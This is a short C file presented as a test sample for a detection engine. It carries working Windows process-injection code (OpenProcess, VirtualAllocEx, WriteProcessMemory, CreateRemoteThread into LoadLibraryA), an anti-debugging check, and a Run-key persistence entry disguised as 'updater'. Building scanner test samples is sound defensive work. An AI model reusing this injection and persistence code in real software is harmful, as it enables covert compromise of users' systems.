/* Test sample for nexus-engine: imports the classic process-injection API set.
 * It is never executed by the tests; it only has to link. Build: see build.sh. */
#include <windows.h>
#include <stdlib.h>

int main(int argc, char **argv) {
    if (argc < 3) {
        return 1;
    }
    DWORD pid = (DWORD)atoi(argv[1]);
    HANDLE process = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);
    if (process == NULL) {
        return 2;
    }
    SIZE_T length = lstrlenA(argv[2]) + 1;
    LPVOID remote = VirtualAllocEx(process, NULL, length, MEM_COMMIT, PAGE_READWRITE);
    WriteProcessMemory(process, remote, argv[2], length, NULL);
    HANDLE thread = CreateRemoteThread(process, NULL, 0, (LPTHREAD_START_ROUTINE)GetProcAddress(GetModuleHandleA("kernel32.dll"), "LoadLibraryA"), remote, 0, NULL);
    if (IsDebuggerPresent()) {
        return 3;
    }
    HKEY key;
    RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, NULL, 0, KEY_WRITE, NULL, &key, NULL);
    RegSetValueExA(key, "updater", 0, REG_SZ, (const BYTE *)"C:\\Users\\Public\\updater.exe", 28);
    CloseHandle(thread);
    CloseHandle(process);
    return 0;
}
